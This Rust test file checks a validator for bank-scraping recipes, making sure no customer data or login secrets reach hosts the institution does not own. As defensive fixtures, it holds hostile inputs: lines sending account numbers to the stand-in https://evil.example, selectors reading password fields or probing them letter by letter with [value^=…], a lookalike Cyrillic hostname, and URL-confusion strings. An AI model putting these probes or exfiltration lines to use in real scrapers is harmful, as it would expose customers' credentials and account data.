//! Nothing of a customer's goes to another host, and the origin is the institution's own.

use crate::bank::{INSTITUTION, RECIPE};
use recipe::Recipe;

fn said_of(institution: &str, recipe: &str) -> String {
    match Recipe::read(institution, recipe) {
        Ok(recipe) => recipe.warnings().iter().map(ToString::to_string).collect(),
        Err(faults) => faults.iter().map(|fault| format!("{fault}\n")).collect(),
    }
}

/// The bank's recipe with a second host in its fence and some texts replaced.
fn said(changes: &[(&str, &str)]) -> String {
    let recipe = changes
        .iter()
        .fold(RECIPE.to_owned(), |recipe, (from, to)| {
            assert!(recipe.contains(from), "the recipe has no {from:?}");
            recipe.replacen(from, to, 1)
        });
    said_of(INSTITUTION, &recipe)
}

/// The institution, which says that the other host is its own as well.
fn with_host() -> String {
    INSTITUTION.replacen("history", "hosts = [\"https://evil.example\"]\nhistory", 1)
}

/// The same where the institution knows the second host.
fn said_with_host(changes: &[(&str, &str)]) -> String {
    let recipe = changes
        .iter()
        .fold(RECIPE.to_owned(), |recipe, (from, to)| {
            assert!(recipe.contains(from), "the recipe has no {from:?}");
            recipe.replacen(from, to, 1)
        });
    said_of(&with_host(), &recipe)
}

const FENCE: &str = "get    = [\"/login\"";
const WIDER: &str = "get    = [\"https://evil.example/x\", \"/login\"";
const POST: &str = "post   = [\"/auth\"";
const POSTS_WIDER: &str = "post   = [\"https://evil.example/x\", \"/auth\"";
const MENU: &str = "go   = { click = \"残高照会\", to = \"accounts\" }";
const FILL: &str = "form    = \"form#login\"\nfill    = { KEIYAKU = \"{login.id}\", PASSWD = \"{login.password}\" }";

#[test]
fn only_what_is_the_same_for_everybody_goes_to_another_host() {
    for way in [
        "keep = { p = \"h1\" }\ngo = { open = \"https://evil.example/x?p={p}\", to = \"accounts\" }",
        "go = { open = \"https://evil.example/x?p={account.number}\", to = \"accounts\" }",
        "keep = { p = \"h1\" }\ngo = { open = \"https://evil.example/{p}\", to = \"accounts\" }",
    ] {
        let said = said_with_host(&[(FENCE, WIDER), (MENU, way)]);
        assert!(
            said.contains("would go to another host, https://evil.example"),
            "{way}: {said}"
        );
    }
    for way in [
        "keep = { p = \"h1\" }\ngo = { post = \"https://evil.example/x\", fields = { a = \"{p}\" }, to = \"accounts\" }",
        "keep = { p = \"h1\" }\ngo = { post = \"https://evil.example/x\", json = { a = [{ b = \"{p}\" }] }, to = \"accounts\" }",
    ] {
        let said = said_with_host(&[(POST, POSTS_WIDER), (MENU, way)]);
        assert!(
            said.contains("would go to another host, https://evil.example"),
            "{way}: {said}"
        );
    }
    let dated = "go = { open = \"https://evil.example/x?d={today:YYYY}\", to = \"accounts\" }";
    let dated = said_with_host(&[(FENCE, WIDER), (MENU, dated)]);
    assert_eq!(dated, "");
}

#[test]
fn a_reviewer_sees_every_second_host() {
    let recipe = RECIPE
        .replacen(FENCE, WIDER, 1)
        .replacen(POST, POSTS_WIDER, 1);
    let recipe = Recipe::read(&with_host(), &recipe).expect("a recipe");
    assert_eq!(recipe.second_hosts(), ["https://evil.example"]);
    let plain = Recipe::read(INSTITUTION, RECIPE).expect("a recipe");
    assert!(plain.second_hosts().is_empty());
}

#[test]
fn no_line_of_a_recipe_reaches_a_host_that_the_institution_does_not_know() {
    for changes in [[(FENCE, WIDER)], [(POST, POSTS_WIDER)]] {
        let said = said(&changes);
        assert!(
            said.contains("https://evil.example is no host of the institution"),
            "{said}"
        );
        assert!(
            said.contains("hosts = [\"https://evil.example\"]"),
            "{said}"
        );
    }
    let pictures = "get    = [\"/login\"";
    let assets = "assets = [\"https://cdn.example/js/*\"]\nget    = [\"/login\"";
    assert_eq!(said(&[(pictures, assets)]), "", "a browser's pictures");
}

#[test]
fn a_picture_is_what_the_page_shows() {
    let with = |picture: &str| {
        let asks = "asks     = \"one-time-password\"";
        let own = format!("asks     = \"picture\"\npicture  = {picture}");
        said(&[(asks, &own)])
    };
    for made_up in [
        "[{ always = \"https://evil.example/x?p=\" }, { css = \"#echo\" }]",
        "{ always = \"/x\" }",
        "{ from = \"account.number\" }",
        "[\"#a\", \"#b\"]",
        "{ either = [{ css = \"img\", attr = \"src\" }, { always = \"/x\" }] }",
    ] {
        let said = with(made_up);
        let wanted = "`picture` is an address that stands on the page";
        assert!(said.contains(wanted), "{made_up}: {said}");
    }
    for shown in [
        "{ css = \"img#captcha\", attr = \"src\" }",
        "{ json = \"image.url\" }",
        "{ either = [{ css = \"img.a\", attr = \"src\" }, { css = \"img.b\", attr = \"src\" }] }",
    ] {
        assert_eq!(with(shown), "", "{shown}");
    }
}

#[test]
fn what_a_field_of_the_login_holds_is_never_kept() {
    for place in [
        "{ css = \"input[name=PASSWD]\", attr = \"value\" }",
        "{ css = \"input[name='PASSWD']\", attr = \"value\" }",
        "{ css = \"input[type = \\\"password\\\"]\", attr = \"value\" }",
        "{ css = \"input[type=password]\", attr = \"data-x\" }",
        "{ css = \"form#login input:nth-child(2)\", attr = \"value\" }",
        "{ css = \"input:nth-child(2)\", attr = \"value\" }",
        "{ css = \"input[name^=PASS]\", attr = \"VALUE\" }",
        "[\"h1\", { css = \"input[name=KEIYAKU]\", attr = \"value\" }]",
        "{ either = [{ css = \"input[name=PASSWD]\", attr = \"value\" }, \"h1\"] }",
    ] {
        let kept = format!("keep = {{ p = {place} }}\n{MENU}");
        let said = said(&[(MENU, &kept)]);
        assert!(said.contains("may hold the password"), "{place}: {said}");
    }
    let csrf =
        format!("keep = {{ t = {{ css = \"input[name=TKN]\", attr = \"value\" }} }}\n{MENU}");
    assert_eq!(said(&[(MENU, &csrf)]), "");
}

#[test]
fn no_value_and_no_sign_reads_what_any_field_holds() {
    let refusal = "text = \"パスワードが正しくありません\",";
    let with = |message: &str| said(&[(refusal, &format!("{refusal} message = {message},"))]);
    for place in [
        "{ css = \"form input\", attr = \"value\" }",
        "{ css = \"input:nth-child(2)\", attr = \"value\", find = 'h(.*)' }",
        "{ css = \"#pw\", attr = \"value\" }",
        "{ css = \".err\", attr = \"VALUE\" }",
        "{ css = \"*\", attr = \"value\" }",
    ] {
        let said = with(place);
        assert!(said.contains("may hold the password"), "{place}: {said}");
    }
    for place in [
        "{ css = \"input[name=PASSWD]\", attr = \"value\" }",
        "{ css = \"input[type=password]\", attr = \"title\" }",
    ] {
        let said = with(place);
        assert!(
            said.contains("a field that the login fills in"),
            "{place}: {said}"
        );
    }
    for honest in [
        "{ css = \".err\", attr = \"title\" }",
        "{ css = \"input[name=MSG]\", attr = \"value\" }",
        "{ css = \"select.k option\", attr = \"value\" }",
        "{ css = \"input[type=radio]\", attr = \"value\" }",
    ] {
        assert_eq!(with(honest), "", "{honest}");
    }
    // In an account, a line, within a cell, in a sign, and of rows that are fields themselves.
    let table = "table   = \"table.ichiran\"\nnumber  = \"口座番号\"";
    let rows = "each    = \"form input\"\nnumber  = { attr = \"value\" }";
    for (from, to) in [
        (
            "description = \"摘要\"",
            "description = { col = \"摘要\", css = \"input\", attr = \"value\" }",
        ),
        (
            "number  = \"口座番号\"",
            "number  = { css = \"td input\", attr = \"value\" }",
        ),
        (
            "when = { title = \"メニュー\" }",
            "when = { title = \"メニュー\", css = \"input\", attr = \"value\", like = \"^h\" }",
        ),
        (table, rows),
    ] {
        let said = said(&[(from, to)]);
        assert!(said.contains("may hold the password"), "{to}: {said}");
    }
    let options = rows.replace("form input", "select option");
    let said = said(&[(table, &options)]);
    assert!(!said.contains("may hold the password"), "{said}");
}

/// However a selector is written, it is understood or refused.
#[test]
fn no_spelling_of_a_selector_hides_a_field_of_the_login() {
    let refusal = "text = \"パスワードが正しくありません\",";
    for css in [
        r#"input[name="PASSWD"i]"#,
        r#"input[name="PASSWD" i]"#,
        r#"input[name="passwd" i]"#,
        r#"input[name=PASSWD s]"#,
        r#"input[name=/**/PASSWD]"#,
        r#"input[ name = "PASSWD" ]"#,
        r#"input[name=PASSW\44 ]"#,
        r#"input[name="PASSW\000044"]"#,
        r#"inp\75t"#,
        r#"input:not(p > a)"#,
        r#"input:not([type=hidden])"#,
        r#"input[bgcolor="a b"],x"#,
        r#"td, input"#,
        r#":is(input)"#,
        r#":is(td, input)"#,
        r#":where(form *)"#,
        r#"form:has(p) > :first-child"#,
        r#"label + *"#,
        r#"input[name^=TK]"#,
        r#"input[title="[name=TKN]"]"#,
        r#"[type="hidden x"]"#,
        r#"input[type=hidden]"#,
        r#"[type="hidden"]:nth-child(2)"#,
        r#"textarea"#,
        r#"select"#,
        r#"my-field"#,
    ] {
        let place = format!("{{ css = '{css}', attr = \"value\" }}");
        let told = |said: &str| {
            said.contains("may hold the password") || said.contains("that the login fills in")
        };
        let message = said(&[(refusal, &format!("{refusal} message = {place},"))]);
        assert!(told(&message), "{css}: {message}");
        let kept = said(&[(MENU, &format!("keep = {{ p = {place} }}\n{MENU}"))]);
        assert!(told(&kept), "{css}: {kept}");
    }
    for css in [
        r#"input[name="TKN" i]"#,
        r#"form > input[name="TKN"][type=hidden]"#,
        r#"option[selected], td > a"#,
        r#"tr:nth-child(2n + 1) > td:not(.off, [data-x="a, b"])"#,
        r#":is(td, th)"#,
    ] {
        let kept = format!("keep = {{ t = {{ css = '{css}', attr = \"value\" }} }}\n{MENU}");
        assert_eq!(said(&[(MENU, &kept)]), "", "{css}");
    }
}

#[test]
fn no_text_of_a_field_is_read_without_its_name() {
    let refusal = "text = \"パスワードが正しくありません\",";
    for place in [
        r#"{ css = 'textarea' }"#,
        r#"{ css = 'form textarea:first-child', find = 'h(.*)' }"#,
        r#"{ css = '[rows]' }"#,
        r#"{ css = ':is(p, textarea)' }"#,
        r#"[{ css = 'h1' }, { css = 'textarea' }]"#,
        r#"{ either = [{ css = 'textarea' }, 'h1'] }"#,
        r#"'textarea'"#,
    ] {
        let message = said(&[(refusal, &format!("{refusal} message = {place},"))]);
        assert!(
            message.contains("may hold the password"),
            "{place}: {message}"
        );
    }
    let at = said(&[(refusal, "at = \"textarea\", text = \"h\",")]);
    assert!(at.contains("may hold the password"), "{at}");
    for honest in [
        "{ css = 'textarea[name=TERMS]' }",
        "{ css = 'p.err' }",
        "{ css = '#err' }",
    ] {
        let message = said(&[(refusal, &format!("{refusal} message = {honest},"))]);
        assert_eq!(message, "", "{honest}");
    }
}

/// However the login is sent: what a bank says back stands in fields of the same names.
#[test]
fn a_login_that_is_posted_is_read_back_by_nobody() {
    let title = "when = { title = \"メニュー\" }";
    for send in [
        "post = \"/auth\", fields = { KEIYAKU = \"{login.id}\", PASSWD = \"{login.password}\" }",
        "post = \"/auth\", json = { KEIYAKU = \"{login.id}\", more = { PASSWD = \"{login.password}\" } }",
    ] {
        let send = format!("send = {{ {send}, to = \"menu\" }}");
        let kept = format!(
            "keep = {{ p = {{ css = \"input[name=PASSWD]\", attr = \"value\" }} }}\n{MENU}"
        );
        let said_of_keep = said(&[(FILL, &send), (MENU, &kept)]);
        assert!(
            said_of_keep.contains("may hold the password"),
            "{send}: {said_of_keep}"
        );
        let has = "when = { title = \"メニュー\", has = 'input[name=PASSWD][value^=h]' }";
        let said_of_sign = said(&[(FILL, &send), (title, has)]);
        assert!(
            said_of_sign.contains("what a field holds"),
            "{send}: {said_of_sign}"
        );
        let honest = said(&[(FILL, &send)]);
        assert!(
            !honest.contains("password") && !honest.contains("field holds"),
            "{honest}"
        );
    }
}

/// Asked again and again, with another letter each time, such a sign spells the password out.
#[test]
fn no_selector_asks_what_a_field_of_the_login_holds() {
    let title = "when = { title = \"メニュー\" }";
    let with = |css: &str| {
        said(&[(
            title,
            &format!("when = {{ title = \"メニュー\", has = '{css}' }}"),
        )])
    };
    for css in [
        "input[value^=h]",
        "input[value^=h i]",
        "[value*=h]",
        "form > *[value=hunter2]",
        "input[name=PASSWD][value^=h]",
        "input[name=KEIYAKU][value]",
        "input[type=password][value$=x]",
        "input[type=hidden][value^=h]",
        "input:not([value^=h])",
        "input:is([value^=h], [value^=i])",
        ":is(input[name=PASSWD]):is([value^=h])",
        "form:has(input[value^=h])",
        "td:has([value^=h])",
        "[value^=h] + p",
        "inp\\75t[v\\61lue^=h]",
        "textarea[value^=h]",
        "label:not(:has([value^=h]))",
    ] {
        let said = with(css);
        assert!(
            said.contains("asks by `[value…]` what a field holds"),
            "{css}: {said}"
        );
    }
    for honest in [
        "input[type=submit][value=\"次へ\"]",
        "input[type=radio][value=\"1\"]",
        "button[value=go]",
        "option:not([value=\"\"])",
        "li[value]",
        "input[name=TKN][value^=a]",
        "input[name=PASSWD]",
        "form:has(input[type=password])",
    ] {
        assert_eq!(with(honest), "", "{honest}");
    }
    // Wherever a selector stands.
    let form = said(&[(
        "form    = \"form#login\"",
        "form    = \"form:has([value^=h])\"",
    )]);
    assert!(form.contains("what a field holds"), "{form}");
    let click = said(&[(
        MENU,
        "go = { click = { css = \"a:not([value^=h])\" }, to = \"accounts\" }",
    )]);
    assert_eq!(click, "", "a link");
    let click = said(&[(
        MENU,
        "go = { click = { css = \"[value^=h] ~ a\" }, to = \"accounts\" }",
    )]);
    assert!(click.contains("what a field holds"), "{click}");
}

#[test]
fn an_institutions_host_has_one_plain_name() {
    let refused = |institution: &str| match Recipe::read(institution, RECIPE) {
        Ok(_) => String::new(),
        Err(faults) => faults.iter().map(ToString::to_string).collect(),
    };
    for host in [
        "https://*.example",
        "https://localhost",
        "https://a.localhost",
        "https://demо-bank.example",
        "https://xn--dem-bank-pbh.example",
    ] {
        let hosts = INSTITUTION.replacen("history", &format!("hosts = [\"{host}\"]\nhistory"), 1);
        let said = refused(&hosts);
        assert!(
            said.contains("institution.toml:8")
                && said.contains("is not the name of an institution's host"),
            "{host}: {said}"
        );
        let page = INSTITUTION.replacen(
            "https://ib.mihon.example/login",
            &format!("{host}/login"),
            1,
        );
        let said = refused(&page);
        assert!(
            said.contains("institution.toml:7")
                && said.contains("is not the name of an institution's host"),
            "{host}: {said}"
        );
    }
    // The first page is on the host whose login form it shows, even where another one is the institution's, too.
    let start = RECIPE.replacen(FENCE, WIDER, 1).replacen(
        "start  = \"/login\"",
        "start  = \"https://evil.example/x\"",
        1,
    );
    let said = said_of(&with_host(), &start);
    assert!(
        said.contains("`start` is on https://evil.example"),
        "{said}"
    );
}

#[test]
fn the_origin_is_the_login_pages_or_one_that_the_institution_names() {
    let elsewhere = RECIPE.replace("https://ib.mihon.example", "https://evil.example");
    let said = said_of(INSTITUTION, &elsewhere);
    assert!(
        said.contains("https://evil.example isn't the host of the institution's login_page, https://ib.mihon.example"),
        "{said}"
    );
    assert!(
        said.contains("hosts = [\"https://evil.example\"]"),
        "{said}"
    );
    let spoken = INSTITUTION.replacen("history", "hosts = [\"https://evil.example\"]\nhistory", 1);
    let told = said_of(&spoken, &elsewhere);
    assert!(
        told.contains("warning: login values go to https://evil.example; the login_page that customers are shown is on https://ib.mihon.example"),
        "{told}"
    );

    for (origin, why) in [
        ("https://127.0.0.1", "is a number"),
        ("https://[::1]", "is a number"),
        ("https://ib.mihon.example:8443", "isn't the host of"),
        ("https://mihon.example", "isn't the host of"),
        ("https://ib.mihon.example.evil.example", "isn't the host of"),
    ] {
        let said = said_of(
            INSTITUTION,
            &RECIPE.replace("https://ib.mihon.example", origin),
        );
        assert!(said.contains(why), "{origin}: {said}");
    }
    let away = RECIPE.replacen(FENCE, WIDER, 1).replacen(
        "start  = \"/login\"",
        "start  = \"https://evil.example/x\"",
        1,
    );
    assert!(
        said_of(INSTITUTION, &away).contains("isn't the host of"),
        "a start elsewhere"
    );
    for host in [
        "https://10.0.0.1",
        "https://a.example/x",
        "http://a.example",
    ] {
        let spoken = INSTITUTION.replacen("history", &format!("hosts = [\"{host}\"]\nhistory"), 1);
        assert!(Recipe::read(&spoken, RECIPE).is_err(), "{host}");
    }
}

#[test]
fn an_address_can_be_understood_in_one_way_only() {
    for address in [
        "/\\\\evil.example/x",
        "/\\t/evil.example/x",
        "//evil.example/x",
        "/auth x",
        "/auth\\u0000",
        "/auth\\u3000",
        "https://ib.mihon.example@evil.example/x",
    ] {
        let send = format!(
            "send = {{ post = \"{address}\", fields = {{ K = \"{{login.id}}\", P = \"{{login.password}}\" }} }}"
        );
        let said = said(&[(POST, POSTS_WIDER), (FILL, &send)]);
        assert!(
            said.contains("can be understood as another address"),
            "{address}: {said}"
        );
    }
    for pattern in [
        "/\\\\evil.example/x",
        "/a b",
        "https://*.example/x",
        "https://10.0.0.1/x",
    ] {
        let fence = format!("get    = [\"{pattern}\", \"/login\"");
        let said = said(&[(FENCE, &fence)]);
        let told = said.contains("is not a path") || said.contains("can be understood as");
        assert!(told, "{pattern}: {said}");
    }
}

#[test]
fn an_address_outside_of_the_fence_is_told_before_any_walk() {
    let out = said(&[(MENU, "go = { open = \"/nowhere\", to = \"accounts\" }")]);
    assert!(out.contains("/nowhere isn't inside the fence"), "{out}");
    assert!(out.contains("add it to `get` of [site]"), "{out}");
    let out = said(&[(MENU, "go = { post = \"/menu\", to = \"accounts\" }")]);
    assert!(out.contains("add it to `post` of [site]"), "{out}");
}
